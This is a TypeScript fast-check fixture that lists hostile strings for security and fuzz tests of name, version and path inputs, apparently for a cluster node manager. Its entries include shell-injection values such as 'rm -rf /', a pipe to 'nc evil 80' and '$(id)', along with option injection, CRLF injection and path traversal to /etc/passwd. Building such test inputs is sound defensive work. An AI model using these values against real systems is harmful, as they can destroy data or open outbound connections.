import fc from 'fast-check';

/**
 * Strings an attacker (or a broken client) sends where a name, a version or a path is
 * expected: shell metacharacters, option-looking words, line breaks, NUL, lookalikes and sheer
 * length. Shared by the security tests (each must be refused) and the fuzz inputs.
 */
export const HOSTILE_STRINGS: readonly string[] = [
  '',
  ' ',
  'n01; rm -rf /',
  'n01 && reboot',
  'n01|nc evil 80',
  '$(id)',
  '`id`',
  '${IFS}',
  "n01'",
  'n01"',
  'n01\\',
  '--foo',
  '-x',
  '--nodelist=evil',
  '-n01',
  'n01\nState=RESUME',
  'n01\r\nX-Injected: 1',
  'n01\0evil',
  'n01\t',
  ' n01',
  'n01 ',
  'n01,n02',
  'n[01-99]',
  'n01*',
  'n01?',
  '../../etc/passwd',
  'n01/../../x',
  'NodeName=evil',
  'State=DRAIN',
  '%00',
  '%0a',
  'n\u202e10',
  'ｎ01',
  'n01\u0085',
  'n01\u2028',
  '\ud800',
  '😀',
  'a'.repeat(64),
  'a'.repeat(100_000),
];

/** One hostile string, or an arbitrary string with one spliced in. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...HOSTILE_STRINGS),
  fc.tuple(fc.string({ maxLength: 8 }), fc.constantFrom(...HOSTILE_STRINGS), fc.string({ maxLength: 8 })).map((parts) => parts.join('')),
);
